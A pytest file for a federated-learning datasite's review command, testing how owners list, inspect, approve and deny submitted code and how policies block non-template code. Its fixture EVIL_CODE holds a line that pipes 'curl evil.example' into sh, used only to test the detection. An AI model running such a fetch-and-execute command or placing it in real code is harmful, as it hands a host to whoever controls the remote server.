"""`fedmtl datasite review`: a person lists, inspects, approves and denies requests.

The integration test launches two real datasites (secure aggregation needs two sites):
riverside approves every request by hand, general approves conforming ones itself.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

import pytest

from fedmtl.cli import main as cli_main
from fedmtl.datasites.ledger import site_ledger
from fedmtl.datasites.review import manual_review
from fedmtl.datasites.server import admin
from fedmtl.datasites.server.launch import DatasiteHandle, free_port
from fedmtl.datasites.server.peers import pin_federation
from fedmtl.datasites.site import home as home_mod
from fedmtl.datasites.template import default_policy
from fedmtl.privacy.keys import SigningKey
from fedmtl.schema import Schema

EMAIL = "ada@uni.example"
PW = "researcher-password-1"
OWNER = "owner@riverside.example"


# ----------------------------------------------------------------------------- no server


def test_review_of_a_stopped_datasite_says_how_to_start_it(tmp_path, capsys):
    # Prepare: a home whose server is not running
    home_mod.write_config(tmp_path, {"name": "riverside", "admin_email": "admin@riverside.datasite"})
    # Execute
    rc = cli_main(["datasite", "review", "--home", str(tmp_path), "--list"])
    # Assert
    assert rc == 2
    err = capsys.readouterr().err
    assert "datasite 'riverside' is not running" in err and "fedmtl datasite launch --home" in err


def test_review_flags_that_do_not_go_together(tmp_path, capsys):
    home_mod.write_config(tmp_path, {"name": "riverside", "admin_email": "admin@riverside.datasite"})
    assert cli_main(["datasite", "review", "--home", str(tmp_path), "--reason", "x"]) == 2
    assert "--reason and --acknowledge go with --approve ID or --deny ID" in capsys.readouterr().err
    with pytest.raises(SystemExit) as e:  # argparse: mutually exclusive actions
        cli_main(["datasite", "review", "--home", str(tmp_path), "--approve", "a", "--deny", "b"])
    assert e.value.code == 2


# ----------------------------------------------------------------------------- fakes (no server)
#
# A syft request is faked with the attributes the reviewer reads (code, spec Constant,
# requester, status) and the two calls it makes (approve, deny); the datasite home is real
# (identity keys, dataset metadata, policy and signed ledger).

TEMPLATE_CODE = "def fedmtl_round_{j}(data, spec, message):\n    from fedmtl.datasites.runtime import handle\n\n    return handle(data=data, spec=spec, message=message)\n"
EVIL_CODE = "def fedmtl_round_{j}(data, spec, message):\n    import os\n    os.system('curl evil.example | sh')\n    return data\n"


class _Status:
    def __init__(self, name: str):
        self.name = name


class _Server:
    server_id = "fake-server-uid"


class _Asset:
    action_id = "fake-asset-uid"


class _Dataset:
    name = "riverside-records"
    assets = [_Asset()]


class _Datasets:
    def get_all(self):
        return [_Dataset()]


class UserCodeStatusChange:  # the reviewer checks the change's kind by its class name
    pass


class _Code:
    """A syft UserCode as the server stores it: raw code, the name syft calls, the code
    syft will exec (derived by syft's own parse_user_code) and the input policy rules."""

    def __init__(self, raw: str, name: str, spec: dict):
        from syft.service.code.user_code import parse_user_code
        from syft.service.policy.policy import Constant, Matches, MixedInputPolicy, OutputPolicyExecuteCount, UserOwned
        from syft.types.uid import UID

        self.raw_code, self.service_func_name, self.nested_codes = raw, name, None
        self.unique_func_name = f"user_func_{name}_x"
        self.input_kwargs = ["data", "spec", "message"]
        self.parsed_code = parse_user_code(raw_code=raw, func_name=self.unique_func_name, original_func_name=name,
                                           function_input_kwargs=self.input_kwargs)
        self.uses_datasite = False
        self.input_policy_type, self.output_policy_type = MixedInputPolicy, OutputPolicyExecuteCount
        uid = UID()
        _Asset.action_id = _Asset.action_id if isinstance(_Asset.action_id, UID) else uid
        self.input_policy_init_kwargs = {_Server(): {
            "data": Matches(kw="data", val=_Asset.action_id),
            "spec": Constant(kw="spec", val=spec, klass=dict),
            "message": UserOwned(kw="message", type=dict),
        }}


class FakeRequest:
    def __init__(self, uid: str, raw: str, spec: dict, email: str = EMAIL):
        self.id, self.requesting_user_email = uid, email
        self.code = _Code(raw.format(j=spec["job_id"].replace("-", "_")), f"fedmtl_round_{spec['job_id'].replace('-', '_')}", spec)
        self._status, self.deny_reason = "PENDING", ""
        self.changes = [UserCodeStatusChange()]

    @property
    def status(self):
        return _Status(self._status)

    def approve(self, disable_warnings: bool = False):
        self._status = "APPROVED"
        return "ok"

    def deny(self, reason: str):
        self._status, self.deny_reason = "REJECTED", reason
        return "ok"


class FakeClient:
    def __init__(self, *requests: FakeRequest):
        self.all = list(requests)
        self.requests = self
        self.datasets = _Datasets()
        self.api = self
        self.server_uid = _Server.server_id

    def get_all(self):
        return list(self.all)


@pytest.fixture
def fake_home(tmp_path, demo_cohort, monkeypatch):
    """A real riverside home (keys, metadata, ledger) whose 'server' is a FakeClient;
    ``make(templates_only)`` installs the policy and returns ``(home, client, spec_for)``."""
    from fedmtl.datasites.site import identity

    _, files = demo_cohort
    sf = next(f for f in files if f.name == "riverside")
    schema = Schema.load(sf.schema)
    home = tmp_path / "riverside"
    home.mkdir()
    home_mod.write_config(home, {"name": "riverside", "admin_email": "admin@riverside.datasite",
                                 "dataset": "riverside-records"})
    (home / "schema.toml").write_bytes(Path(sf.schema).read_bytes())  # the datasite's own schema
    own = identity.create(home, "riverside").public.verify_key.to_bytes().hex()
    general = SigningKey.generate().verify_key  # the peer in the roster, pinned by the owner
    (home / "dataset_meta.json").write_text(json.dumps({"n_records": 1000, "split_sizes": {"train": 800}}))
    client = FakeClient()
    monkeypatch.setattr(admin, "admin_client", lambda h: client)

    def spec_for(job_id: str) -> dict:
        return {"job": _spec(job_id.split("-")[0]).to_dict(), "job_id": job_id, "site": "riverside",
                "roster": {"riverside": own, "general": general.to_bytes().hex()}, "schema": schema.to_dict(),
                "max_count": 1000, "template": "fedmtl_round"}

    def make(*, templates_only: bool):
        policy = default_policy(schema, approval="manual", min_sites=2, templates_only=templates_only,
                                            peers={"general": general.fingerprint()})
        site_ledger.install_policy(home, policy, who=OWNER)
        return home, client, spec_for

    return make


def _wait_pending_manual(home, client, request_id):
    """What the server's automatic reviewer does with the fakes (one poll)."""
    from fedmtl.datasites.review.autoreview import review_pending

    review_pending(home, client)
    return site_ledger.open_ledger(home).request(request_id)


def test_non_template_code_needs_the_advisory_acknowledged_and_the_ledger_records_it(fake_home, capsys):
    # Prepare: the owner switched templates_only off; a request with other code arrives
    home, client, spec_for = fake_home(templates_only=False)
    req = FakeRequest("a" * 32, EVIL_CODE, spec_for("custom-00000001"))
    client.all.append(req)
    assert _wait_pending_manual(home, client, "custom-00000001").status == "pending_manual"
    assert req.status.name == "PENDING"  # the auto-reviewer leaves it for a person
    # Execute: show it
    rc, out, err = _review(capsys, home, "--show", "custom-00000001")
    # Assert: not a template, the diff shows the injected lines, the advisory is named, no dry run
    assert rc == 0, err
    assert "NOT an allowed template" in out
    assert "+    os.system('curl evil.example | sh')" in out
    assert "-    from fedmtl.datasites.runtime import handle" in out
    assert "WARNING (PYSEC-2026-546)" in out and "not an allowed template" in out
    assert "not run: the code is not the round template" in out
    # --yes alone does not approve non-template code
    rc, out, err = _review(capsys, home, "--approve", "custom-00000001", "--reason", "read it", "--yes",
                           "--reviewer", OWNER)
    assert rc == 2 and "needs --acknowledge PYSEC-2026-546" in err
    assert "WARNING (PYSEC-2026-546)" in err  # shown before the refusal
    assert req.status.name == "PENDING" and site_ledger.open_ledger(home).request_status("custom-00000001") == "pending_manual"
    # without --yes the reviewer must confirm at a terminal
    rc, out, err = _review(capsys, home, "--approve", "custom-00000001", "--reason", "read it", "--reviewer", OWNER)
    assert rc == 2 and "stdin is not a terminal" in err
    # acknowledged: approved, warning_shown in the ledger, then approved in syft
    rc, out, err = _review(capsys, home, "--approve", "custom-00000001", "--reason", "read every line",
                           "--yes", "--acknowledge", "PYSEC-2026-546", "--reviewer", OWNER)
    assert rc == 0, err
    assert "advisory warning shown" in out
    rec = site_ledger.open_ledger(home).request("custom-00000001")
    assert rec.status == "approved" and rec.decision.warning_shown and rec.decision.reviewer == OWNER
    assert req.status.name == "APPROVED"


def test_templates_only_policy_refuses_a_manual_approval_of_other_code(fake_home, capsys):
    # Prepare: the default templates-only policy denies other code by itself...
    home, client, spec_for = fake_home(templates_only=True)
    req = FakeRequest("b" * 32, EVIL_CODE, spec_for("custom-00000002"))
    client.all.append(req)
    from fedmtl.datasites.review import manual_review as mr

    # ...but before the automatic reviewer got to it, a person tries to approve it
    with pytest.raises(mr.ReviewError, match="review.templates_only") as e:
        mr.decide_request(home, "custom-00000002", approve=True, reviewer=OWNER, reason="looks fine",
                          warnings_acknowledged=True, client=client)
    assert "PYSEC-2026-546" in str(e.value) and "Change the policy" in str(e.value)
    assert req.status.name == "PENDING" and site_ledger.open_ledger(home).request("custom-00000002") is None
    # a denial is recorded (request + decision in one append) and applied
    out = mr.decide_request(home, "custom-00000002", approve=False, reviewer=OWNER, reason="not our code",
                            client=client)
    assert out.recorded and req.status.name == "REJECTED"
    assert "manual (owner@riverside.example): not our code" in req.deny_reason


def test_a_reused_job_id_never_inherits_an_approval(fake_home, capsys):
    # Prepare: job 'main-00000003' approved by a person
    home, client, spec_for = fake_home(templates_only=False)
    spec = spec_for("main-00000003")
    good = FakeRequest("c" * 32, TEMPLATE_CODE, spec)
    client.all.append(good)
    assert _wait_pending_manual(home, client, "main-00000003").status == "pending_manual"
    from fedmtl.datasites.review import manual_review as mr

    mr.decide_request(home, "main-00000003", approve=True, reviewer=OWNER, reason="ok", client=client)
    assert good.status.name == "APPROVED"
    # Execute: a second request reuses the approved job id with other code
    evil = FakeRequest("d" * 32, EVIL_CODE, spec)
    client.all.append(evil)
    rows = {r.syft_id: r for r in mr.list_requests(home, client=client)}
    # Assert: listed under its own syft id, not as the approved job
    assert rows["d" * 32].request_id == f"syft-{'d' * 32}" and rows["d" * 32].ledger_status == "unknown"
    with pytest.raises(mr.ReviewError, match="already used in the ledger by another request"):
        mr.decide_request(home, f"syft-{'d' * 32}", approve=True, reviewer=OWNER, reason="x",
                          warnings_acknowledged=True, client=client)
    # the automatic reviewer denies it too (before the fix it approved it in syft)
    rec = _wait_pending_manual(home, client, f"syft-{'d' * 32}")
    assert rec.status == "denied" and evil.status.name == "REJECTED"
    assert "already used in the ledger by another request" in evil.deny_reason
    assert site_ledger.open_ledger(home).request("main-00000003").status == "approved"


def test_unknown_and_ambiguous_request_names(fake_home, capsys):
    home, client, spec_for = fake_home(templates_only=True)
    client.all += [FakeRequest("e1" * 16, TEMPLATE_CODE, spec_for("one-00000004")),
                   FakeRequest("e1" * 15 + "ff", TEMPLATE_CODE, spec_for("two-00000005"))]
    rc, out, err = _review(capsys, home, "--show", "zzz")
    assert rc == 2 and "no request 'zzz' on this datasite; pending requests: one-00000004, two-00000005" in err
    rc, out, err = _review(capsys, home, "--show", "e1e1e1e1e1", "--no-dry-run")
    assert rc == 2 and "names 2 requests" in err
    rc, out, err = _review(capsys, home, "--show", "e1" * 15 + "ff", "--no-dry-run")
    assert rc == 0 and "request two-00000005" in out


# ----------------------------------------------------------------------------- two real sites


def _launch_detached(files, home: Path, policy_file: Path) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "fedmtl.cli", "datasite", "launch", "--home", str(home), "--name", files.name,
         "--records", str(files.records), "--schema", str(files.schema), "--port", str(free_port()),
         "--policy", str(policy_file), "--detach"],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )


@pytest.fixture(scope="module")
def two_sites(tmp_path_factory):
    """riverside (approval = "manual") and general (automatic), launched in parallel."""
    from fedmtl.datasites.data.cohort import prepare

    out = tmp_path_factory.mktemp("cohort")
    files = {f.name: f for f in prepare(out, sites=3, seed=0)}
    homes = tmp_path_factory.mktemp("homes")
    procs, handles = {}, []
    try:
        for name, approval in (("riverside", "manual"), ("general", "auto")):
            schema = Schema.load(files[name].schema)
            policy = default_policy(schema, approval=approval, min_sites=2)
            policy.save(homes / f"{name}-policy.toml")
            procs[name] = _launch_detached(files[name], homes / name, homes / f"{name}-policy.toml")
        for name, proc in procs.items():
            output, _ = proc.communicate(timeout=400)
            assert proc.returncode == 0, output
            info = home_mod.running(homes / name)
            cfg = home_mod.read_config(homes / name)
            handles.append(DatasiteHandle(name=name, home=homes / name, host=info.host, port=info.port,
                                          admin_email=cfg["admin_email"], dataset=cfg["dataset"]))
            admin.add_researcher(home=homes / name, email=EMAIL, password=PW)
        pin_federation([h.home for h in handles])  # the owners pin each other
        yield {h.name: h for h in handles}
    finally:
        for proc in procs.values():
            if proc.poll() is None:
                proc.kill()
        for name in procs:
            DatasiteHandle(name=name, home=homes / name, host="", port=0, admin_email="", dataset="").stop()


def _spec(name: str):
    from fedmtl.contract.jobspec import JobSpec

    return JobSpec(
        name=name, tasks=[{"label": "diabetes_5y"}], rounds=1, local_steps=3, sample_rate=0.02, lr=0.5,
        noise_multiplier=1.0, secagg={"threshold": 2, "clip": 1.0},
    )


def _review(capsys, home: Path, *argv: str) -> tuple[int, str, str]:
    rc = cli_main(["datasite", "review", "--home", str(home), *argv])
    cap = capsys.readouterr()
    return rc, cap.out, cap.err


def _wait_listed(capsys, home: Path, job_id: str, timeout: float = 60.0) -> dict:
    """The review list's row of ``job_id`` once the automatic reviewer left it for a person."""
    deadline = time.monotonic() + timeout
    while True:
        rc, out, err = _review(capsys, home, "--list", "--json")
        assert rc == 0, err
        rows = {r["request_id"]: r for r in json.loads(out)}
        if rows.get(job_id, {}).get("ledger_status") == "pending_manual" or time.monotonic() > deadline:
            return rows.get(job_id, {})
        time.sleep(0.5)


@pytest.mark.integration
def test_person_lists_shows_denies_and_approves(two_sites, tmp_path, capsys):
    from fedmtl.researcher.session import Session

    river = two_sites["riverside"]
    session = Session.connect([{"url": h.url, "email": EMAIL, "password": PW} for h in two_sites.values()])
    led = site_ledger.open_ledger(river.home)

    # -- a first job: listed, shown, denied with a reason the researcher reads
    job = session.job(_spec("pilot"), out=tmp_path / "job1")
    job.submit()
    row = _wait_listed(capsys, river.home, job.job_id)
    assert row["ledger_status"] == "pending_manual" and row["syft_status"] == "pending", row
    assert row["researcher"] == EMAIL
    assert job.wait_for_review(30)["general"]["status"] == "approved"  # the automatic site
    assert job.status()["riverside"]["status"] == "pending"  # the auto-reviewer leaves it alone

    rc, out, err = _review(capsys, river.home, "--list")
    assert rc == 0, err
    assert job.job_id in out and "pending_manual" in out
    # --list asks the server's control socket: the same rows as a syft login lists
    via_socket = admin.review_list(river.home, include_decided=True)
    via_login = manual_review.list_requests(river.home, client=admin.admin_client(river.home), include_decided=True)
    assert via_socket == [r.to_dict() for r in via_login] and job.job_id in {r["request_id"] for r in via_socket}

    rc, out, err = _review(capsys, river.home, "--show", job.job_id)
    assert rc == 0, err
    assert f"def fedmtl_round_{job.job_id.replace('-', '_')}(data, spec, message):" in out  # the code
    assert "equals the allowed template 'fedmtl_round'" in out
    assert "(none: identical to the template)" in out  # the diff
    assert '"local_steps": 3' in out and '"diabetes_5y"' in out  # the parameters
    assert "epsilon of this job:" in out and "dataset budget left before it:" in out
    assert "review.approval: this datasite approves every request by hand" in out
    # the dry run: the statistics pass (standard scaling) and the first training pass
    assert "OK: passes 1..2 ran through secure aggregation with 2 simulated site(s)" in out
    assert "epsilon_round:" in out and "n_train:" not in out  # no per-site figures in replies

    rc, out, err = _review(capsys, river.home, "--show", job.job_id, "--json", "--no-dry-run")
    shown = json.loads(out)
    assert shown["decision"]["status"] == "pending_manual" and shown["decision"]["epsilon_job"] > 0
    assert shown["spec"]["job_id"] == job.job_id and shown["dry_run"] is None

    # a denial needs a reason
    rc, out, err = _review(capsys, river.home, "--deny", job.job_id, "--yes")
    assert rc == 2 and "give the reason with --reason TEXT" in err
    rc, out, err = _review(capsys, river.home, "--deny", job.job_id, "--reason", "pilot first at general only",
                           "--reviewer", OWNER, "--yes")
    assert rc == 0, err
    assert f"request {job.job_id} denied by {OWNER}" in out
    st = job.status()["riverside"]
    assert st["status"] == "denied" and "pilot first at general only" in st["reason"], st
    rec = led.request(job.job_id)
    assert rec.status == "denied" and rec.decision.reviewer == OWNER and not rec.decision.automatic
    # decisions are final
    rc, out, err = _review(capsys, river.home, "--approve", job.job_id, "--reason", "changed my mind", "--yes")
    assert rc == 2 and "already decided" in err and "decisions are final" in err

    # -- a second job: approved by a person
    job2 = session.job(_spec("main"), out=tmp_path / "job2")
    job2.submit()
    assert _wait_listed(capsys, river.home, job2.job_id)["ledger_status"] == "pending_manual"
    syft_id = _wait_listed(capsys, river.home, job2.job_id)["syft_id"]
    rc, out, err = _review(capsys, river.home, "--approve", syft_id[:10], "--reason", "fits the study protocol",
                           "--reviewer", OWNER, "--yes")  # a syft-id prefix names it too
    assert rc == 0, err
    assert f"request {job2.job_id} approved by {OWNER}" in out
    assert job2.status()["riverside"]["status"] == "approved"
    rec = led.request(job2.job_id)
    assert rec.status == "approved" and rec.decision.reviewer == OWNER
    assert rec.decision.reasons == (f"manual ({OWNER}): fits the study protocol",)
    assert not rec.decision.warning_shown  # template code: there was no warning to show
    time.sleep(1.5)  # the automatic reviewer had time to (wrongly) touch it: it did not
    assert led.request(job2.job_id).status == "approved" and len(led.request(job2.job_id).decisions) == 2

    # -- nothing is left; unknown ids are named
    rc, out, err = _review(capsys, river.home)
    assert rc == 0 and "no requests waiting for review" in out
    rc, out, err = _review(capsys, river.home, "--show", "nope")
    assert rc == 2 and "no request 'nope' on this datasite" in err

    # -- the audit lists both manual decisions
    rc = cli_main(["audit", "--home", str(river.home), "--out", str(tmp_path / "audit")])
    out = capsys.readouterr().out
    assert rc == 0 and "verification: OK" in out
    assert f"{OWNER} (manual)" in out and "pilot first at general only" in out
